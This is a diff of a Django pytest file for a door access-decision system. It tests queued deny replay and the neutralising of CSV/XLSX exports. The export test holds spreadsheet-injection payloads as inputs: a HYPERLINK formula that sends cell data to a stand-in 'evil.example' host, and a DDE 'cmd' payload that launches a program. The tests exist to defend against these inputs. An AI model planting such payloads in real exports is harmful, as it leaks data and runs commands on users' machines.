@@ -134,6 +134,26 @@ def test_under_a_write_lock_the_door_answers_deny_at_once_and_the_deny_is_writte
     assert Decision.objects.filter(subject="STRANGER").count() == 1 and len(deny_entries("STRANGER")) == 1
 
 
+@pytest.mark.django_db(transaction=True)
+def test_a_row_the_database_refuses_for_good_does_not_hold_back_the_other_denies(queue_dir):
+    """A queued row that can never be written (its area was deleted meanwhile) is set aside in rejected-*.jsonl,
+    kept for an operator; the denies queued beside it reach the log and the ledger."""
+    world = permit_world()
+    now = timezone.now()
+    deny_queue.put((now, None, world["area"].pk, None, None, "FIRST", False, ["unknown_person"], None))
+    deny_queue.put((now, None, 999_999_999, None, None, "ORPHAN", False, ["unknown_person"], None))
+    deny_queue.put((now, None, world["area"].pk, None, None, "LAST", False, ["unknown_person"], None))
+
+    assert deny_queue.replay() == 2
+    tally.flush()
+    assert sorted(Decision.objects.values_list("subject", flat=True)) == ["FIRST", "LAST"]
+    assert len(deny_entries("FIRST")) == 1 and len(deny_entries("LAST")) == 1
+    rejected = list(queue_dir.glob("rejected-*.jsonl"))
+    assert len(rejected) == 1 and json.loads(rejected[0].read_text())["subject"] == "ORPHAN"
+    assert not deny_queue.pending()
+    assert deny_queue.replay() == 0 and Decision.objects.count() == 2  # set aside once, never retried
+
+
 def test_a_replay_repeated_after_a_crash_writes_nothing_twice(file_db, queue_dir):
     world = permit_world()
     client = door([world["area"]])
@@ -222,8 +242,15 @@ def test_a_small_form_still_decides(client):
 @pytest.mark.parametrize("role", [SECURITY_OFFICER, AUDITOR])
 def test_decision_log_exports_neutralise_formulas_and_survive_nul(client, role):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    for subject in (formula, "B1\x00\x07X", "+cmd|'/C calc'!A0", "@SUM(1)"):
+    for subject in (formula, "+cmd|'/C calc'!A0", "@SUM(1)"):
         assert client.post(DECIDE, {"subject": subject, "area": "ops"}, format="json").status_code == 200
+    # A door never sends control characters: refused, nothing logged (PostgreSQL could not even store a NUL)...
+    decisions = Decision.objects.count()
+    for subject in ("B1\x00X", "B1\x07X"):
+        assert client.post(DECIDE, {"subject": subject, "area": "ops"}, format="json").status_code == 400
+    assert Decision.objects.count() == decisions
+    # ...but one that reached the log another way (an older version, a restore) must not break the exports.
+    Decision.objects.create(at=timezone.now(), subject="B1\x07\x1bX", allow=False, reasons=["unknown_person"])
     browser = APIClient()
     browser.force_login(staff(role))
 
@@ -231,7 +258,7 @@ def test_decision_log_exports_neutralise_formulas_and_survive_nul(client, role):
     assert csv_response.status_code == 200
     text = b"".join(csv_response.streaming_content).decode()
     assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text
-    assert "\x00" not in text and "\x07" not in text and "B1X" in text
+    assert "\x07" not in text and "\x1b" not in text and "B1X" in text
     assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
 
     xlsx_response = browser.get("/admin/decisions/?export=xlsx")
